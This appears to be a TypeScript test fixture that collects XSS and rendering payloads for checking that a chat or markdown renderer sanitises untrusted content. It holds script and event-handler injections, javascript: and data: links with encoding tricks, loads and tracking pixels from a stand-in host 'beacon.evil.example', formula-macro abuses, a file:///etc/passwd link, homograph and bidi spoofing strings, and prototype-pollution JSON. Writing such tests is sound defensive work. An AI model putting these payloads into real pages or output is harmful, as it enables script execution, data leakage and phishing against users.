/** What somebody may write in order to run a script in the page, to load something, or to look like something else. */

/** The page has `canary()`: whatever calls it was executed. No request may go to this host. */
const BEACON = 'https://beacon.evil.example'

const RUN = 'canary()'
const IMAGE = `<img src=x onerror=${RUN}>`

const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${BEACON}/a.js"></script>`,
  IMAGE,
  `<img src="${BEACON}/pixel.gif">`,
  `<svg onload=${RUN}><circle r=1></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  `<math href="javascript:${RUN}">press</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="${BEACON}/e">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}><input autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}></video><audio src="${BEACON}/a.mp3" autoplay></audio>`,
  `<form action="${BEACON}"><button formaction="javascript:${RUN}">press</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}"><base href="${BEACON}/">`,
  `<link rel=stylesheet href="${BEACON}/s.css"><style>@import '${BEACON}/i.css'</style>`,
  `<div style="position:fixed;inset:0;background:url(${BEACON}/b.png)">over all</div>`,
  `<!--><script>${RUN}</script>--><!-- ${IMAGE} -->`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<template><script>${RUN}</script></template><textarea></textarea>${IMAGE}`,
  `<x onclick=${RUN} tabindex=1 onfocus=${RUN} id=x>x</x>`,
  `<a href="javascript:${RUN}">press</a>`,
] as const

const LINKS = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](java&#115;cript&colon;${RUN})`,
  `[press](javascript&#x3A;${RUN})`,
  '[press](\u0001java\u000Bscript:canary())',
  '[press](<java\tscript:canary()>)',
  `[press](vbscript:${RUN})`,
  `[press](data:text/html;base64,${btoa(`<script>${RUN}</script>`)})`,
  `[press](data:image/svg+xml,<svg onload=${RUN}>)`,
  `<javascript:${RUN}>`,
  `[press][it]\n\n[it]: javascript:${RUN}`,
  `[press](//beacon.evil.example/a) [in](/ai-chat/stop) [up](../../x) [here](#content)`,
  `[press](file:///etc/passwd) [app](intent://x) [blob](blob:${BEACON}/x)`,
  'https://good.example@beacon.evil.example/ and https://аррӏе.com/ (not what it looks like)',
  `[https://good.example](${BEACON}/phish)`,
  `![x](${BEACON}/pixel.png)`,
  `![x][p] ![](//beacon.evil.example/y.gif)\n\n[p]: ${BEACON}/z.png`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${BEACON}/s.png"/></svg>`)})`,
] as const

const FORMULAS = [
  `$$\\href{javascript:${RUN}}{press}$$ $$\\url{javascript:${RUN}}$$`,
  `$$\\htmlData{x=" onmouseover=${RUN} "}{y} \\htmlId{content}{z} \\htmlClass{a}{b}$$`,
  `$$\\htmlStyle{position:fixed;background:url(${BEACON}/k.png)}{y}$$`,
  `$$\\includegraphics[width=9em]{${BEACON}/g.png}$$`,
  '$$\\def\\a{\\a\\a}\\a$$ $$\\rule{9999em}{9999em}$$ $$\\unknown{<img src=x onerror=canary()>}$$',
] as const

const SHAPES = [
  `> - \`\`\`html\n>   ${IMAGE}\n>   \`\`\`\n> * **${IMAGE}** [a](<javascript:${RUN}> "t")`,
  `\`\`\`"><img src=x onerror=${RUN}> onload=${RUN}\n${IMAGE}\n\`\`\``,
  `| a | ${IMAGE} |\n|---|---|\n| <script>${RUN}</script> | [b](javascript:${RUN}) |`,
  `- [x] ${IMAGE}\n\n[^1]: <script>${RUN}</script>\n\nHere[^1].`,
  'W'.repeat(20_000),
  '\u202Egnp.exe\u2066 \u200Bcod.ymmud\u2069 \u0000\u0007 \uFEFF \uD83D',
  '__proto__ constructor toString hasOwnProperty',
  '>'.repeat(4000),
  '*a_'.repeat(7000),
  '{{constructor.constructor("canary()")()}} ${canary()} <%= canary() %>',
] as const

export const PAYLOADS: readonly string[] = [...HTML, ...LINKS, ...FORMULAS, ...SHAPES]

/** The input of a tool, as JSON: keys that are more than keys to a careless reader. */
export const poisonedInput = (payload: string): string => {
  const said = JSON.stringify(payload)
  return `{"__proto__":{"polluted":true,"onload":${said}},"constructor":{"prototype":{"polluted":true}},${said}:${said},"html":[${said},{"toString":${said}}]}`
}
